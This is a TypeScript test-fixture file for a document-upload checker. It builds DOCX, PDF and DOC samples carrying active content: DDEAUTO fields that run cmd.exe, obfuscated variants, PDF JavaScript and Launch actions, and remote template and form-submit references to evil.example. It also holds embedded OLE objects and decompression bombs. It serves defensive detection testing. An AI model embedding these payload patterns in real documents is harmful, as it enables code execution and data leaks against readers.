/** Files accepted with a flag for the reader (SEC-08). */
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { oleWith, related } from "./outside.ts";
import { ole, ROOT, WORD } from "./ole.ts";
import { docx, DOCUMENT_PART, RELATIONS_PART, TYPES_PART, zip, type ZipPart } from "./zip.ts";

export const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
export const PDF = "application/pdf";

const body = (inner: string): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
export const written = (inner: string, ...more: ZipPart[]): Buffer =>
  zip([TYPES_PART, RELATIONS_PART, { name: "word/document.xml", data: body(inner) }, ...more]);
export const field = (...pieces: string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const command = String.raw` c:\\windows\\system32\\cmd.exe "/k calc.exe" `;

/** Hardly compressible data, to balance well compressible data. */
const noisy: ZipPart[] = [
  { name: "word/media/a.jpg", data: createHash("sha256").update("a").digest(), stored: true },
  {
    name: "word/media/b.jpg",
    data: Buffer.concat(
      Array.from({ length: 3000 }, (_, index) =>
        createHash("sha256").update(String(index)).digest(),
      ),
    ),
    stored: true,
  },
];

const activeDocx = (): [string, Buffer][] => [
  ["a field that runs a program", written(field(` DDEAUTO${command}`))],
  ["a field that runs a program, in pieces", written(field(" DD", "EAU", `TO${command}`))],
  ["a field that runs a program, with entities", written(field(`&#68;DE${command}`))],
  [
    "a simple field that runs a program",
    written(`<w:fldSimple w:instr="DDE${command.replaceAll('"', "&quot;")}"/>`),
  ],
  ["a field spelled in numbers", written(field(" QUOTE 68 68 69 65 85 84 79 "))],
  [
    "a field in a header",
    docx({ name: "word/header1.xml", data: body(field(` DDEAUTO${command}`)) }),
  ],
  [
    "a field in a part without an ending",
    docx({ name: "word/part", data: body(field(` DDEAUTO${command}`)) }),
  ],
  [
    "a field in UTF-16",
    docx({
      name: "word/header1.xml",
      data: Buffer.from(
        `\ufeff${body(field(` DDEAUTO${command}`)).replace("UTF-8", "UTF-16")}`,
        "utf16le",
      ),
    }),
  ],
  [
    "a picture taken in from elsewhere",
    written(field(String.raw` INCLUDEPICTURE "\\\\evil.example\\a.png" \d `)),
  ],
  [
    "an object in an OLE container",
    docx({ name: "word/embeddings/oleObject1.bin", data: oleWith("\u0001Ole10Native") }),
  ],
  [
    "an object by its relation",
    docx({ name: "word/a.xml", data: "<x/>" }, related("oleObject", "a.xml", { mode: "" })),
  ],
  [
    "a package in the text",
    docx(
      { name: "word/embeddings/a.bin", data: "PK" },
      related("package", "embeddings/a.bin", { mode: "" }),
    ),
  ],
  [
    "a web page to take in",
    docx(
      { name: "word/afchunk.htm", data: "<html></html>" },
      related("aFChunk", "afchunk.htm", { mode: "" }),
    ),
  ],
  ["a picture of a page of the web", docx(related("image", "https://example.com/photo.png"))],
  ["a picture on another machine", docx(related("image", "file://evil.example/share/a.png"))],
  [
    "an object that is linked on its author's own disk",
    docx(related("oleObject", "file:///C:\\Users\\x\\a.xls")),
  ],
  ["a kind of relation that Word does not have", docx(related("urn:x", "https://example.com/a"))],
  [
    "a list of addresses on another machine",
    docx(
      related("mailMergeSource", "file:///\\\\office\\share\\a.csv", {
        name: "word/_rels/settings.xml.rels",
      }),
    ),
  ],
  [
    "a chart whose workbook is on another machine",
    docx(
      related("oleObject", "file:///\\\\office\\share\\a.xlsx", {
        name: "word/charts/_rels/chart1.xml.rels",
      }),
    ),
  ],
  [
    "a field of a web page, as Word pastes it (ActiveX)",
    docx(
      { name: "word/activeX/activeX1.xml", data: "<ax:ocx/>" },
      related("control", "activeX/activeX1.xml", { mode: "" }),
    ),
  ],
  ["the same path twice", docx(DOCUMENT_PART)],
  ["the same path in two cases", docx({ ...DOCUMENT_PART, name: "Word/Document.XML" })],
  ["something behind its end", Buffer.concat([docx(), Buffer.from("MZ program")])],
];

export const made = (inner: string): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n${inner}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");
/** A PDF with its objects in a compressed stream. */
export const packed = (
  inner: string,
  dictionary = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
): Buffer => {
  const data = deflateSync(Buffer.from(`2 0 ${inner}`));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<<${dictionary}/Length ${data.length}>>\nstream\r\n`),
    data,
    Buffer.from("\r\nendstream\nendobj\n%%EOF\n"),
  ]);
};

const activePdf = (): [string, Buffer][] => [
  ["a script, a letter of its name as a number", made("<</S/J#61vaScript/JS(app.alert(1))>>")],
  ["a script, its key as numbers", made("<</S/Java#53cript/#4a#53 (x)>>")],
  ["a script, a comment between", made("<</S%\n/JavaScript%x\n/JS%\n(x)>>")],
  ["a program to start", made("<</S/#4caunch/F(cmd.exe)>>")],
  ["a way into an attached file", made("<</S/GoToE/T<</R/C>>>>")],
  ["a way into a file elsewhere", made("<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>")],
  ["a form that sends", made("<</S/SubmitForm/F(http://evil.example)>>")],
  ["an attached file", made("<</Type/Filespec/EF<</F 3 0 R>>>>\n<</Type/EmbeddedFile>>")],
  ["attached files by a list", made("<</Names<</EmbeddedFiles 4 0 R>>>>")],
  ["a film with a script", made("<</Subtype/RichMedia>>")],
  ["a form of its own language", made("<</AcroForm<</XFA 5 0 R>>>>")],
  ["a script in a compressed stream", packed("<</S/JavaScript/JS(app.alert(1))>>")],
  [
    "a script in a compressed stream, its kind as numbers",
    packed("<</S/JavaScript/JS(x)>>", "/Type/#4fbjStm/N 1/F#69rst 4/Filter/FlateDecode"),
  ],
  [
    "a compressed stream that no reader can open",
    packed("<<>>", "/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"),
  ],
  ["a header and no object", Buffer.from("%PDF-x")],
  [
    "a text before its header that is no line of a header",
    Buffer.concat([Buffer.from("WScript.Echo 1\n"), made("<<>>")]),
  ],
  ["a compressed stream that never ends", packed(`<<${" ".repeat(30_000_000)}>>`)],
];

const activeDoc = (): [string, Buffer][] => [
  ["a field that runs a program", text(`\u0013 DDEAUTO${command}\u0015`, "latin1")],
  [
    "a field that runs a program, in two bytes a letter",
    text(`\u0013 DDE${command}\u0015`, "utf16le"),
  ],
  ["a template from elsewhere", text("http://evil.example/a.dotm\0", "utf16le")],
  ["another document within", ole({ entries: [ROOT, WORD, { name: "_1234567890", kind: 1 }] })],
  ["a packed file", ole({ entries: [ROOT, WORD, { name: "\u0001Ole10Native", kind: 2 }] })],
];

function text(words: string, encoding: BufferEncoding): Buffer {
  const file = ole();
  file.write(words, 512 * 4, encoding);
  return file;
}

export const activeFiles = () =>
  [
    ...named("cv.docx", DOCX, activeDocx()),
    ...named("cv.pdf", PDF, activePdf()),
    ...named("cv.doc", "application/msword", activeDoc()),
  ].map((file) => ({ ...file, type: `${file.type}; active=yes` }));

export function named(name: string, type: string, files: [string, Buffer][]) {
  return files.map(([what, bytes]) => ({ what: `${name}: ${what}`, name, bytes, type }));
}

const TEN_MB = 10 * 1024 * 1024;
const filled = (word: string): Buffer => {
  const file = Buffer.alloc(TEN_MB, word, "latin1");
  file.write("%PDF-1.7\n", "latin1");
  return file;
};
const filledDoc = (word: string): Buffer => Buffer.concat([ole(), Buffer.alloc(TEN_MB, word)]);

/** Expensive to inspect: the verdict may be either, but must come within the limits. */
export const busyFiles = () => [
  ...named("cv.pdf", PDF, [
    ["names in words", filled("x/JS ")],
    ["names that go on", filled("/JSx")],
    ["names as numbers", filled("/#4a#53x ")],
    ["strokes", filled("/")],
    ["streams that are none", filled("/First stream\n")],
    ["streams without an end", filled("/ObjStm/Fl stream\nx")],
    ["numbers without an object", filled("1 0 ")],
    ["marks of tags", filled("<a")],
    ["ends of archives", filled("PK\u0005\u0006\0\0")],
  ]),
  ...named("cv.docx", DOCX, [
    ["a field of spaces", written(field(` INCLUDEPICTURE${" ".repeat(200_000)}x`), ...noisy)],
    ["numbers without end", written(field(" QUOTE 1".repeat(30_000)), ...noisy)],
    [
      "ninety-nine megabytes of zeros",
      docx(
        ...Array.from({ length: 3 }, (_, index) => ({
          name: `word/media/${index}.bin`,
          data: Buffer.alloc(33 * 1024 * 1024),
        })),
      ),
    ],
    ["five megabytes of elements", written("<w:r/>".repeat(900_000), ...noisy)],
  ]),
  ...named("cv.doc", "application/msword", [
    ["templates", filledDoc("\\\\x.dot")],
    ["fields", filledDoc("\u0013 ")],
    ["fields of spaces", filledDoc(`\u0013${" ".repeat(19)}`)],
  ]),
];
